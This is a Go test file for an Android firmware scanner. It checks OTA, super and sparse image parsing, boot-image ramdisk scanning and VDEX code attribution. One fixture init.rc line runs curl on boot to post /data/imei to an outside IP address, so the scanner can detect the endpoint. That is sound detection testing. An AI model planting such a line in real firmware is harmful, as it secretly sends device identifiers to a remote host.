package scan

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/romscan/romscan/internal/testutil"
	"github.com/romscan/romscan/report"
)

// TestSampleROMPayloadSuperAgree scans sample ROMs v1 and v2 as an A/B OTA
// (payload.bin STORED in a zip), as super.img (EROFS system + ext4 vendor)
// and as its sparse form: each must give the apps and findings of the ext4
// form, read every partition in place (no temp bytes), and list its
// partitions among the containers.
func TestSampleROMPayloadSuperAgree(t *testing.T) {
	samples := testutil.Samples(t)
	for _, v := range []string{"v1", "v2"} {
		rom := filepath.Join(samples, "rom-"+v)
		want := appFacts(mustScan(t, filepath.Join(rom, "system.img")))
		if len(want) < 5 {
			t.Fatalf("rom-%s system.img: only %d apps", v, len(want))
		}
		tests := []struct {
			form       string
			containers []string // location format
			propsFrom  []string
		}{
			{"ota-payload.zip", []string{
				"ota-payload.zip zip",
				"ota-payload.zip!payload.bin payload",
				"ota-payload.zip!payload.bin!system ext4",
			}, []string{"ota-payload.zip!payload.bin!system!/build.prop"}},
			{"super.img", []string{
				"super.img super",
				"super.img!system erofs",
				"super.img!vendor ext4",
			}, []string{"super.img!system!/build.prop", "super.img!vendor!/build.prop"}},
			{"super.simg", []string{
				"super.simg sparse",
				"super.simg super",
				"super.simg!system erofs",
				"super.simg!vendor ext4",
			}, []string{"super.simg!system!/build.prop", "super.simg!vendor!/build.prop"}},
		}
		for _, tc := range tests {
			t.Run(v+"/"+tc.form, func(t *testing.T) {
				r := mustScan(t, filepath.Join(rom, tc.form))
				if len(r.Errors) > 0 {
					t.Errorf("errors: %v", r.Errors)
				}
				if diff := cmp.Diff(want, appFacts(r)); diff != "" {
					t.Errorf("differs from system.img (-system.img +%s):\n%s", tc.form, diff)
				}
				if r.Summary.SpilledBytes != 0 {
					t.Errorf("%d bytes written to temp files, want 0 (read in place)", r.Summary.SpilledBytes)
				}
				var got []string
				for _, c := range r.Containers {
					got = append(got, c.Location+" "+c.Format)
				}
				if diff := cmp.Diff(tc.containers, got); diff != "" {
					t.Errorf("containers (-want +got):\n%s", diff)
				}
				if r.Device == nil {
					t.Fatal("no device context")
				}
				if diff := cmp.Diff(tc.propsFrom, r.Device.Sources); diff != "" {
					t.Errorf("build.prop sources (-want +got):\n%s", diff)
				}
				if r.Device.AndroidVersion != "13" || !strings.Contains(r.Device.BuildTags, "test-keys") {
					t.Errorf("device context %+v", r.Device)
				}
			})
		}
	}
}

// bootImage makes a header-version-0 boot image whose gzip ramdisk holds
// files (name → content, in order).
func bootImage(t *testing.T, files ...[2]string) []byte {
	t.Helper()
	var cpio bytes.Buffer
	pad := func() {
		for cpio.Len()%4 != 0 {
			cpio.WriteByte(0)
		}
	}
	for i, f := range append(files, [2]string{"TRAILER!!!", ""}) {
		fmt.Fprintf(&cpio, "070701%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x",
			i+1, 0o100644, 0, 0, 1, 0, len(f[1]), 0, 0, 0, 0, len(f[0])+1, 0)
		cpio.WriteString(f[0] + "\x00")
		pad()
		cpio.WriteString(f[1])
		pad()
	}
	var rd bytes.Buffer
	zw := gzip.NewWriter(&rd)
	zw.Write(cpio.Bytes())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	const page = 2048
	kernel := bytes.Repeat([]byte{0xaa}, 100)
	h := make([]byte, page)
	copy(h, "ANDROID!")
	binary.LittleEndian.PutUint32(h[8:], uint32(len(kernel)))
	binary.LittleEndian.PutUint32(h[16:], uint32(rd.Len()))
	binary.LittleEndian.PutUint32(h[36:], page)
	out := h
	for _, part := range [][]byte{kernel, rd.Bytes()} {
		out = append(out, part...)
		out = append(out, make([]byte, (page-len(out)%page)%page)...)
	}
	return out
}

// TestBootImageScan scans a boot image whose ramdisk has an init.rc with an
// endpoint and a default.prop, beside a real vbmeta image: the endpoint is
// found in the ramdisk, the props give device context, and the vbmeta image
// is listed with its properties as notes.
func TestBootImageScan(t *testing.T) {
	dir := t.TempDir()
	boot := filepath.Join(dir, "boot.img")
	img := bootImage(t,
		[2]string{"init.rc", "on property:sys.boot_completed=1\n    exec - system system -- /system/bin/curl -d @/data/imei http://42.62.48.90/boot\n"},
		[2]string{"default.prop", "ro.product.model=Ramdisk Phone\nro.build.version.release=12\nro.build.tags=release-keys\n"},
	)
	if err := os.WriteFile(boot, img, 0o644); err != nil {
		t.Fatal(err)
	}
	vbm := testutil.Corpus(t, "firmware/boot-images/coral-qq1d.200205.002/vbmeta_system.img")
	r := mustScan(t, boot, vbm)
	if len(r.Errors) > 0 {
		t.Errorf("errors: %v", r.Errors)
	}
	var endpoints []string
	for _, f := range r.Findings {
		if strings.HasPrefix(f.RuleID, "endpoint.") {
			endpoints = append(endpoints, f.Evidence[0].Location+" "+f.Evidence[0].String)
		}
	}
	if !slices.Contains(endpoints, "boot.img!/init.rc http://42.62.48.90/boot") {
		t.Errorf("endpoint from init.rc missing; endpoint findings: %q", endpoints)
	}
	if r.Device == nil || r.Device.Model != "Ramdisk Phone" || !slices.Contains(r.Device.Sources, "boot.img!/default.prop") {
		t.Errorf("device context %+v, want the ramdisk's default.prop", r.Device)
	}
	var containers []string
	for _, c := range r.Containers {
		containers = append(containers, c.Location+" "+c.Format)
	}
	if diff := cmp.Diff([]string{"boot.img bootimg", "vbmeta_system.img vbmeta"}, containers); diff != "" {
		t.Errorf("containers (-want +got):\n%s", diff)
	}
	want := report.Note{Location: "vbmeta_system.img", Text: "vbmeta property com.android.build.system.security_patch=2020-02-05"}
	if !slices.Contains(r.Notes, want) {
		t.Errorf("note %+v missing from %+v", want, r.Notes)
	}
}

// TestIrisSecureElementVDEX scans a real pre-optimised system app whose APK
// has no DEX: its code comes from oat/arm/SecureElement.vdex, and findings
// from that code must join the app.
func TestIrisSecureElementVDEX(t *testing.T) {
	dir := testutil.Corpus(t, "firmware/iris-hp4024/system/app/SecureElement")
	r := mustScan(t, dir)
	if len(r.Errors) > 0 {
		t.Errorf("errors: %v", r.Errors)
	}
	if len(r.Apps) != 1 || r.Apps[0].Package != "com.android.se" {
		t.Fatalf("apps %+v, want com.android.se alone", r.Apps)
	}
	var fromVDEX []string
	for _, f := range r.Findings {
		if f.Package == "com.android.se" && strings.Contains(f.Evidence[0].Location, "SecureElement.vdex!") {
			fromVDEX = append(fromVDEX, f.RuleID+" "+f.Evidence[0].String)
		}
	}
	if len(fromVDEX) == 0 {
		t.Errorf("no finding of com.android.se comes from its VDEX code")
	}
	t.Logf("findings from the VDEX: %q", fromVDEX)
}
